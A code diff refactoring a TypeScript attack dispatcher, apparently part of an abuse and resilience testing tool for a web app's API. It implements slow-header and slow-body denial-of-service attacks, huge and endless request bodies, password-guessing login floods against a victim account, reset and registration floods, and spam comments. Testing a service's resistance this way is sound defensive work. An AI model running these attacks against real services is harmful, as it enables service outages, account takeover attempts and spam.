@@ -161,36 +161,43 @@ export async function attack(options: AttackOptions): Promise<EndCounts> {
     case 'slow headers':
       return speak(options, {
         start: 'GET / HTTP/1.1\r\nhost: tifo\r\nx-slow: ',
-        ...{ next: 'a', pause: 1000 },
+        next: 'a',
+        pause: 1000,
       });
     case 'slow bodies':
       return speak(options, {
         start: head(`${api}/users/login`, 'content-length: 2000', 'application/json'),
-        ...{ next: ' ', pause: 1000 },
+        next: ' ',
+        pause: 1000,
       });
     case 'endless bodies':
       return speak(options, {
         start: head(registerPath, 'transfer-encoding: chunked', 'application/json'),
-        ...{ next: chunk, pause: 0 },
+        next: chunk,
+        pause: 0,
       });
     case '1 GiB bodies':
       return speak(options, {
         start: `${head(registerPath, `content-length: ${2 ** 30}`, 'multipart/form-data; boundary=abuse')}--abuse\r\ncontent-disposition: form-data; name="image"; filename="a.jpg"\r\n\r\n`,
-        ...{ next: filler, pause: 0 },
+        next: filler,
+        pause: 0,
       });
     case 'login flood':
       return flood(options, (turn) => ({
-        ...{ method: 'POST', path: `${api}/users/login` },
+        method: 'POST',
+        path: `${api}/users/login`,
         body: JSON.stringify({ email: victim, password: `Guess-number-${turn}` }),
       }));
     case 'register flood':
       return flood(options, (turn) => ({
-        ...{ method: 'POST', path: registerPath },
+        method: 'POST',
+        path: registerPath,
         body: JSON.stringify(somebody(turn)),
       }));
     case 'forgot flood':
       return flood(options, () => ({
-        ...{ method: 'PATCH', path: `${api}/users/forgotpassword/forgotpassword` },
+        method: 'PATCH',
+        path: `${api}/users/forgotpassword/forgotpassword`,
         body: JSON.stringify({ email: victim }),
       }));
     case 'upload flood': {
@@ -205,21 +212,26 @@ export async function attack(options: AttackOptions): Promise<EndCounts> {
     case 'slow pictures': {
       const file = manyScans(3000, 3000, 100);
       return flood(options, (turn) => ({
-        ...{ method: 'POST', path: registerPath },
+        method: 'POST',
+        path: registerPath,
         ...form(somebody(turn), file),
       }));
     }
     case 'picture flood': {
       const sent = form({}, await gradient(3000, 2000).jpeg().toBuffer());
       return flood(options, (turn) => ({
-        ...{ method: 'PATCH', path: `${api}/users/update/update` },
-        ...{ token: pick(tokens, turn), ...sent },
+        method: 'PATCH',
+        path: `${api}/users/update/update`,
+        token: pick(tokens, turn),
+        ...sent,
       }));
     }
     case 'comment flood':
       return flood(options, (turn) => ({
-        ...{ method: 'POST', path: `${api}/comment/create/${player}` },
-        ...{ token: pick(tokens, turn), body: JSON.stringify({ comment: 'Buy now!', rating: 1 }) },
+        method: 'POST',
+        path: `${api}/comment/create/${player}`,
+        token: pick(tokens, turn),
+        body: JSON.stringify({ comment: 'Buy now!', rating: 1 }),
       }));
     case 'idle connections':
       return speak(options, { start: '', next: '', pause: 60_000 });
@@ -228,7 +240,8 @@ export async function attack(options: AttackOptions): Promise<EndCounts> {
       return flood(options, (turn) => ({ path: `${api}/users/byName/ro?page=${1 + (turn % 20)}` }));
     case 'request flood of fans':
       return flood(options, (turn) => ({
-        ...{ path: `${api}/players?page=${1 + (turn % 50)}`, token: pick(tokens, turn) },
+        path: `${api}/players?page=${1 + (turn % 50)}`,
+        token: pick(tokens, turn),
       }));
     default: {
       const { attack: name, collected } = options;
